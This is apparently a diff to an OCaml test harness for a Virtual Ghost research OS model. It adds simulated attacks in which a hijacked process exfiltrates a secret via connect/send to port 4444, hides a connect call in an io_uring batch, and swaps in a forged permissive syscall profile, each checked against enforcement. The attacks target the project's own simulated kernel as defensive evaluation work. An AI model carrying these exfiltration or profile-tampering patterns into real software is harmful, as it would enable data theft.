@@ -251,6 +251,146 @@ let swap_tamper_attack ~mode =
           | Ok () -> true (* tampering went undetected: attack success *)
           | Error _ -> false))
 
+(* ------------------------------------------------------------------ *)
+(* Syscall-flow integrity (SFIP) vectors: a hijacked process tries to
+   drive the kernel through a syscall sequence its profile never
+   contains.  On the baseline there is no signed profile (signatures
+   do not exist), so the sequence executes; under Virtual Ghost the
+   dispatcher refuses the first out-of-policy transition, kills the
+   process and answers [ESFIP]. *)
+
+(* The victim's honest workload: write a config file once, then read
+   it back in a loop — open/read/close and nothing network-shaped. *)
+let sfip_victim_workload ctx =
+  (match Runtime.sys_open ctx "/sfip-config" Syscalls.creat_trunc with
+  | Error _ -> ()
+  | Ok fd ->
+      ignore (Runtime.write_string ctx ~fd secret);
+      ignore (Runtime.sys_close ctx fd));
+  for _ = 1 to 3 do
+    match Runtime.sys_open ctx "/sfip-config" Syscalls.rdonly with
+    | Error _ -> ()
+    | Ok fd ->
+        let buf = Runtime.ualloc ctx 64 in
+        ignore (Syscalls.read ctx.Runtime.kernel ctx.Runtime.proc ~fd ~buf ~len:64);
+        ignore (Runtime.sys_close ctx fd)
+  done
+
+(* Profile extraction for a closure app: run the honest workload once
+   under a [Record] policy (the administrator's profiling run). *)
+let sfip_record k workload =
+  let recorder = Syscall_policy.record () in
+  Runtime.launch k ~sfip:recorder ~ghosting:false workload;
+  recorder
+
+(* The hijacked continuation: ship the config out over the network —
+   [connect] then [send], neither reachable from the victim's graph. *)
+let sfip_exfil ctx =
+  let k = ctx.Runtime.kernel and proc = ctx.Runtime.proc in
+  match Syscalls.connect k proc ~port:4444 with
+  | Error _ -> false
+  | Ok fd -> (
+      let buf = Runtime.ualloc ctx 64 in
+      Runtime.poke ctx buf (Bytes.of_string secret);
+      match Syscalls.send k proc ~fd ~buf ~len:(String.length secret) with
+      | Ok n -> n > 0
+      | Error _ -> false)
+
+let sfip_sequence_attack ~mode =
+  let k = boot mode in
+  let sfip =
+    match mode with
+    | Sva.Native_build -> None (* no profile deployed: nothing to sign it with *)
+    | Sva.Virtual_ghost ->
+        Some (Syscall_policy.enforce
+                (Syscall_policy.graph (sfip_record k sfip_victim_workload)))
+  in
+  let exfiltrated = ref false in
+  Runtime.launch k ?sfip ~ghosting:false (fun ctx ->
+      sfip_victim_workload ctx;
+      exfiltrated := sfip_exfil ctx);
+  !exfiltrated
+
+(* Ring variant: the out-of-policy call hides in the middle of an
+   otherwise-benign batch.  The whole batch is vetted before any entry
+   runs, so under enforcement even the benign prefix never executes. *)
+let sfip_ring_sequence_attack ~mode =
+  let k = boot mode in
+  let benign_batches ring =
+    for _ = 1 to 2 do
+      for _ = 1 to 2 do
+        ignore
+          (Uring.submit ring ~sysno:Syscall_abi.sys_getpid ~args:[||]
+             ~user_data:0L)
+      done;
+      (match Uring.enter ring ~to_submit:2 with Ok _ | Error _ -> ());
+      ignore (Uring.reap ring)
+    done
+  in
+  let sfip =
+    match mode with
+    | Sva.Native_build -> None
+    | Sva.Virtual_ghost ->
+        Some (Syscall_policy.enforce
+                (Syscall_policy.graph
+                   (sfip_record k (fun ctx ->
+                        benign_batches (Uring.create ctx ~depth:8)))))
+  in
+  let exfil_cookie = 7L in
+  let connected = ref false in
+  Runtime.launch k ?sfip ~ghosting:false (fun ctx ->
+      let ring = Uring.create ctx ~depth:8 in
+      benign_batches ring;
+      (* Hijacked: same shape of batch, but the middle entry now opens
+         a connection to the attacker. *)
+      ignore (Uring.submit ring ~sysno:Syscall_abi.sys_getpid ~args:[||] ~user_data:0L);
+      ignore
+        (Uring.submit ring ~sysno:Syscall_abi.sys_connect ~args:[| 4444L |]
+           ~user_data:exfil_cookie);
+      ignore (Uring.submit ring ~sysno:Syscall_abi.sys_getpid ~args:[||] ~user_data:0L);
+      (match Uring.enter ring ~to_submit:3 with Ok _ | Error _ -> ());
+      List.iter
+        (fun (c : Syscall_ring.cqe) ->
+          if
+            c.Syscall_ring.user_data = exfil_cookie
+            && Result.is_ok (Syscall_abi.decode_int c.Syscall_ring.result)
+          then connected := true)
+        (Uring.reap ring));
+  !connected
+
+(* The OS cannot forge a profile either: profiles ride inside the
+   signed image region, so swapping in a permissive one (here recorded
+   from the attack itself) breaks the signature and [execve] refuses
+   the image.  The baseline performs no signature check — the
+   permissive profile loads and the exfiltration runs in-"policy". *)
+let sfip_profile_swap_attack ~mode =
+  let k = boot mode in
+  let strict = sfip_record k sfip_victim_workload in
+  let vg_key = Sva.vg_private_key_for_installer k.Kernel.sva in
+  let rng = Vg_crypto.Drbg.create ~seed:(Bytes.of_string "sfip-swap") in
+  let image =
+    Appimage.install ~vg_key ~rng ~name:"sfip-victim"
+      ~payload:(Bytes.of_string "text segment of sfip-victim")
+      ~entry:0x400000L
+      ~profile:(Syscall_policy.to_profile strict)
+      ~app_key:(Bytes.make 16 'k') ()
+  in
+  let permissive =
+    sfip_record k (fun ctx ->
+        sfip_victim_workload ctx;
+        ignore (sfip_exfil ctx))
+  in
+  let tampered =
+    { image with Appimage.profile = Syscall_policy.to_profile permissive }
+  in
+  let exfiltrated = ref false in
+  (try
+     Runtime.launch k ~image:tampered ~ghosting:false (fun ctx ->
+         sfip_victim_workload ctx;
+         exfiltrated := sfip_exfil ctx)
+   with Runtime.App_crash _ -> () (* vg: execve refused the broken signature *));
+  !exfiltrated
+
 let smp_remap_race_attack ~mode =
   let machine =
     Machine.create ~cpus:2 ~phys_frames:8192 ~disk_sectors:8192 ~seed:"smp-race" ()
